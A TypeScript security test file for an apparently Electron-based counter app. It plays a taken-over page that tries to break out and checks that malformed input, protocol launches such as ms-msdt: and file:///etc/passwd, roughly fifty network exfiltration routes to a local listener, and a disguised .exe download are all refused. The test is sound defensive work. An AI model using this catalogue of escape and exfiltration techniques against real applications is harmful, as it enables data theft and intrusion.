import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as wait } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { z } from 'zod'
import { endpoints, type EndpointName } from '../../shared/counter-api.ts'
import { firstFieldOf, malformedFor } from '../support/hostile-input.ts'
import { startListeningPost } from '../support/listening-post.ts'
import { launchCounter, type LaunchedCounter } from './harness.ts'

/**
 * A page that was taken over says whatever it likes to every endpoint of the contract. What it says is
 * made from the contract, so that a new endpoint is attacked the day it is declared.
 */
describe('a page that was taken over', () => {
  let counter: LaunchedCounter
  beforeAll(async () => {
    counter = await launchCounter()
  })
  afterAll(async () => {
    await counter.close()
  })

  const names = Object.keys(endpoints) as EndpointName[]

  /** The answers to several inputs, in one go: each way into the page takes its time. */
  async function answersTo(name: EndpointName, inputs: unknown[]): Promise<unknown[]> {
    return counter.page.evaluate(
      ([endpoint, given]) => {
        const call = window.counter.call[endpoint] as (input: unknown) => Promise<unknown>
        return Promise.all(given.map((input) => call(input)))
      },
      [name, inputs] as const,
    )
  }

  it.each(names)('has malformed input of %s refused by name of its fields', async (name) => {
    const inputs = malformedFor(name)
    expect(inputs.length).toBeGreaterThan(5)
    const answers = await answersTo(name, inputs)
    const accepted = answers.flatMap((answer, at) =>
      isRefusal(answer) ? [] : [{ input: inputs[at], answer }],
    )
    expect(accepted).toEqual([])
  })

  it('has oversized input of every endpoint refused before anything reads it', async () => {
    const attacks = names.map((name) => [name, firstFieldOf(name), mostOf(name)] as const)
    const answers = await counter.page.evaluate(async (all) => {
      const circle: Record<string, unknown> = {}
      circle['self'] = circle
      const answered: [string, unknown][] = []
      for (const [endpoint, field, most] of all) {
        const call = window.counter.call[endpoint] as (input: unknown) => Promise<unknown>
        for (const input of [circle, { [field]: 'x'.repeat(most + 50_000) }]) {
          answered.push([endpoint, await call(input)])
        }
      }
      return answered
    }, attacks)
    const problems = [{ field: '', reason: 'is more than a call may carry' }]
    const refused = { ok: false, fault: { kind: 'bad-input', problems } }
    expect(answers).toEqual(names.flatMap((name) => [name, name].map((one) => [one, refused])))
  })

  it('opens no other program, whatever the address is called', async () => {
    const before = await counter.page.evaluate(() => location.href)
    for (const address of [
      'mailto:a@example.com',
      'tel:112',
      'file:///etc/passwd',
      'smb://127.0.0.1/share',
      'ms-msdt:/id',
      'search-ms:query=x',
      'vbscript:1',
      'cicopass-counter://sell',
    ]) {
      await counter.page.evaluate((to) => {
        window.open(to)
        location.href = to
      }, address)
      await wait(100)
      expect(await counter.page.evaluate(() => location.href)).toBe(before)
    }
    const pages = counter.browser.contexts().flatMap((context) => context.pages())
    expect(pages).toHaveLength(1)
  })

  it('reaches nobody, by whatever a page has to reach somebody with', async () => {
    const post = await startListeningPost()
    const blocked = await counter.page.evaluate(async (port) => {
      const place = `127.0.0.1:${String(port)}`
      const to = (way: string) => `http://${place}/${way}`
      const put = (name: string, attributes: Record<string, string>, text = '') => {
        const element = document.createElement(name)
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
        element.textContent = text
        document.body.append(element)
        return element
      }
      const code = `fetch('${to('worker')}')`
      const asBlob = (type: string, text: string) => URL.createObjectURL(new Blob([text], { type }))
      const scriptAsBlob = asBlob('text/javascript', code)
      const relay = (urls: string) => {
        const servers = [{ urls, username: 'a', credential: 'b' }]
        const peer = new RTCPeerConnection({ iceServers: servers })
        peer.createDataChannel('out')
        void peer.createOffer().then((offer) => peer.setLocalDescription(offer))
      }
      const ways: (() => unknown)[] = [
        () => fetch(to('fetch')),
        () => fetch(to('no-cors'), { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }),
        () => new WebSocket(`ws://${place}/`),
        () => new EventSource(to('events')),
        () => new WebTransport(`https://${place}/`).ready,
        () => navigator.sendBeacon(to('beacon'), 'x'),
        () => new FontFace('x', `url(${to('font')})`).load(),
        () => navigator.serviceWorker.register('/assets/sw.js'),
        () => new Worker(scriptAsBlob),
        () => new Worker(`data:text/javascript,${code}`),
        () => new Worker(to('worker')),
        () => new SharedWorker(scriptAsBlob),
        () => import(/* @vite-ignore */ to('module')),
        () => put('img', { src: to('img'), srcset: to('srcset') }),
        () => put('video', { src: to('video'), poster: to('poster'), autoplay: '' }),
        () => put('audio', { src: to('audio'), autoplay: '' }),
        () => put('embed', { src: to('embed') }),
        () => put('object', { data: to('object') }),
        () => put('iframe', { src: to('iframe') }),
        () => put('iframe', { srcdoc: `<img src="${to('srcdoc')}"><script>${code}</script>` }),
        () => put('iframe', { src: asBlob('text/html', `<img src="${to('blob')}">`) }),
        () => put('iframe', { src: `data:text/html,<img src="${to('data')}">` }),
        () => put('iframe', { src: `javascript:${code}` }),
        () => put('script', { src: to('script') }),
        () => put('script', { type: 'module', src: to('module') }),
        () =>
          put('script', { type: 'speculationrules' }, `{"prefetch":[{"urls":["${to('rules')}"]}]}`),
        () =>
          put(
            'style',
            {},
            `@import url(${to('import')}); body { cursor: url(${to('css')}), auto }`,
          ),
        () => document.body.style.setProperty('background-image', `url(${to('background')})`),
        ...[
          'stylesheet',
          'icon',
          'manifest',
          'modulepreload',
          'prefetch',
          'prerender',
          'preconnect',
        ].map((rel) => () => put('link', { rel, href: to(rel) })),
        ...['fetch', 'image', 'style', 'script', 'font'].map(
          (kind) => () => put('link', { rel: 'preload', as: kind, href: to(kind) }),
        ),
        () => put('a', { href: '#', ping: to('ping') }).click(),
        () => put('a', { href: to('download'), download: 'x' }).click(),
        () => (put('form', { action: to('form') }) as HTMLFormElement).submit(),
        () => (put('form', { action: to('blank'), target: '_blank' }) as HTMLFormElement).submit(),
        () => put('meta', { 'http-equiv': 'refresh', content: `0;url=${to('refresh')}` }),
        () => relay(`stun:${place}`),
        () => relay(`turn:${place}?transport=udp`),
        () => relay(`turn:${place}?transport=tcp`),
        () => window.open(to('window')),
        () => location.assign(to('location')),
      ]
      const violated = new Set<string>()
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        violated.add(effectiveDirective)
      })
      for (const way of ways) {
        try {
          await Promise.race([way(), new Promise((resolve) => setTimeout(resolve, 20))])
        } catch {
          continue // refused, which is what this is about
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 1_500))
      return [...violated]
    }, post.port)
    expect(post.heard).toEqual([])
    // And not by luck: the policy was asked.
    for (const part of [
      'connect-src',
      'img-src',
      'media-src',
      'worker-src',
      'frame-src',
      'object-src',
    ]) {
      expect(blocked).toContain(part)
    }
    await post.stop()
  })

  it('brings no file onto this computer, and the log says that it tried', async () => {
    await counter.page.evaluate(() => {
      const link = document.createElement('a')
      link.href = URL.createObjectURL(new Blob(['MZ'], { type: 'application/octet-stream' }))
      link.download = 'factuur.exe'
      document.body.append(link)
      link.click()
      link.remove()
    })
    await vi.waitFor(
      () => {
        const logs = join(counter.dataDir, 'logs')
        const said = readdirSync(logs).map((name) => readFileSync(join(logs, name), 'utf8'))
        expect(said.join('')).toContain('The page was refused a download')
      },
      { timeout: 10_000 },
    )
    const files = readdirSync(counter.dataDir, { recursive: true, encoding: 'utf8' })
    expect(files.filter((file) => file.includes('factuur'))).toEqual([])
  })

  it('embeds no guest page: the element is not there to be had', async () => {
    const guest = await counter.page.evaluate(async () => {
      const element = document.createElement('webview')
      element.setAttribute('src', 'data:text/html,guest')
      element.setAttribute('allowpopups', '')
      element.setAttribute('nodeintegration', '')
      document.body.append(element)
      await new Promise((resolve) => setTimeout(resolve, 300))
      const seen = ['getWebContentsId', 'contentWindow'].filter((name) => name in element)
      element.remove()
      return seen
    })
    expect(guest).toEqual([])
    const pages = counter.browser.contexts().flatMap((context) => context.pages())
    expect(pages).toHaveLength(1)
  })

  it('has a counter behind it that still works', async () => {
    expect(await answersTo('app.state', [{}])).toMatchObject([{ ok: true }])
  })
})

/** What a call may carry, in characters. */
function mostOf(name: EndpointName): number {
  const endpoint = endpoints[name]
  return 'mayBe' in endpoint ? endpoint.mayBe : 200_000
}

function isRefusal(answer: unknown): boolean {
  const refusal = z.object({
    ok: z.literal(false),
    fault: z.object({ kind: z.literal('bad-input'), problems: z.array(z.unknown()).min(1) }),
  })
  return refusal.safeParse(answer).success
}
